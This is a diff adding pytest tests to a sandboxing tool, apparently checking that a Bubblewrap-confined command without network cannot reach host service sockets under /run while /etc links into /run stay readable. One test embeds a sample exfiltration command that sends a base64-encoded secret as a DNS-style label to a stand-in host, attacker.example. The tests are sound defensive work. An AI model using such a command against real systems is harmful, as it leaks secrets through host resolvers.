@@ -10,10 +10,13 @@ from __future__ import annotations
 import json
 import os
 import pathlib
+import shlex
 import shutil
+import socket
 import subprocess
 import sys
 import sysconfig
+import tempfile
 
 import pytest
 
@@ -193,3 +196,62 @@ def test_du5_the_running_installation_in_the_workspace_stays_read_only(
     assert (purelib / "policylang" / "__init__.py").read_text() == init_before
     assert (venv / "pyvenv.cfg").read_text() == cfg_before
     assert report["denied"]
+
+
+# -- DU4: no network means no host service sockets in /run ---------------------------------
+
+_CONNECT = ("python3 -c 'import socket,sys; s=socket.socket(socket.AF_UNIX); "
+            "s.connect(sys.argv[1]); s.sendall(b\"c2VjcmV0.attacker.example\"); print(\"sent\")' ")
+
+
+def test_du4_a_host_service_socket_under_run_is_unreachable_without_network(
+    workspace: pathlib.Path,
+) -> None:
+    # a stand-in for systemd-resolved's `/run/systemd/resolve/io.systemd.Resolve`, nscd's,
+    # PostgreSQL's: none was on the list of hidden sockets, so "no network" resolved names
+    try:
+        folder = pathlib.Path(tempfile.mkdtemp(prefix="policylang-du4-", dir="/run"))
+    except OSError:
+        pytest.skip("/run is not writable here: no service socket can be made there")
+    path = folder / "io.systemd.Resolve"
+    server = socket.socket(socket.AF_UNIX)
+    try:
+        server.bind(str(path))
+        path.chmod(0o666)
+        server.listen()
+        server.settimeout(0.2)
+        command = _CONNECT + shlex.quote(str(path)) + "; ls -d /run/lock; echo ok > made.txt"
+        res = _confined(command, workspace, BubblewrapBackend(str(workspace)),
+                        workspace / "made.txt")
+        if res is None:
+            return
+        assert (workspace / "made.txt").read_text() == "ok\n"
+        assert "sent" not in res.stdout
+        assert "/run/lock" in res.stdout or not os.path.isdir("/run/lock")
+        with pytest.raises(TimeoutError):
+            server.accept()
+        # with the network shared, the host's /run is as it was
+        shared = _confined(command, workspace,
+                           BubblewrapBackend(str(workspace), network=True), workspace / "x")
+        assert shared is not None
+        assert "sent" in shared.stdout
+        server.accept()[0].close()
+    finally:
+        server.close()
+        shutil.rmtree(folder, ignore_errors=True)
+
+
+def test_du4_files_that_etc_links_lead_to_in_run_stay_readable(workspace: pathlib.Path) -> None:
+    # `/etc/resolv.conf -> /run/systemd/resolve/stub-resolv.conf` and the like
+    backend = BubblewrapBackend(str(workspace))
+    if not backend.probe().ok:
+        return
+    argv = backend.argv("true", cwd=str(workspace), login=False)
+    assert "/run" in [argv[i + 1] for i, a in enumerate(argv) if a == "--tmpfs"]
+    for entry in os.scandir("/etc"):
+        real = os.path.realpath(entry.path)
+        if entry.is_symlink() and real.startswith("/run/") and os.path.isfile(real):
+            command = f"cat {shlex.quote(entry.path)} >/dev/null && echo readable"
+            res = run(command, decision=decision(command), cwd=str(workspace),
+                      sandbox=backend, timeout_s=20)
+            assert res.stdout == "readable\n", entry.path
